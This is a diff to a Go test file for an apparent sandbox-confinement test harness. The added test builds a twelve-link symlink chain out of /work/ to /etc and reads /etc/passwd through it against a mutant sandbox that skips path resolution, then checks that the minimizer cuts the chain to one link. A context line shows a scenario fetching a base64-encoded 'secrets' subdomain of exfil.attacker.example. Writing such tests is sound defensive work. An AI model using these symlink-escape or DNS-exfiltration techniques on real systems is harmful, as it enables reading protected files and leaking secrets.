@@ -1,7 +1,9 @@
 package minimize
 
 import (
+	"fmt"
 	"net/netip"
+	"strings"
 	"testing"
 	"testing/synctest"
 	"time"
@@ -259,4 +261,34 @@ net_fetch c2VjcmV0cw.exfil.attacker.example /
 		}
 		assertOneMinimal(t, min, fails)
 	}
+}
+
+// TestMinimizeShortensLinkChains: a read through a chain of links out of
+// the roots, on a sandbox that never resolves links, minimizes to one link
+// straight out, though every link of the chain is needed while it stands.
+func TestMinimizeShortensLinkChains(t *testing.T) {
+	var src strings.Builder
+	src.WriteString("grant fs_read /work/\nfile /etc/passwd root\n")
+	for i := range 12 {
+		target := fmt.Sprintf("l%d", i+1) // relative, in /work/
+		if i == 11 {
+			target = "/etc"
+		}
+		fmt.Fprintf(&src, "link /work/l%d %s\n", i, target)
+	}
+	src.WriteString("\nfs_read /work/l0/passwd\n")
+	m, ok := mutants.Lookup("no-realpath")
+	if !ok {
+		t.Fatal("no no-realpath mutant")
+	}
+	sc := parse(t, src.String())
+	fails := Violates(m.Factory, oracle.Confinement, 0)
+	if !fails(sc) {
+		t.Fatal("the chain does not fail on the mutant")
+	}
+	min, _ := Minimize(sc, 1, fails, Limits{})
+	if len(min.World.Links) != 1 || min.World.Links[0].Target != "/etc" {
+		t.Fatalf("minimized to %d links, want one to /etc:\n%s", len(min.World.Links), min.Format())
+	}
+	assertOneMinimal(t, min, fails)
 }
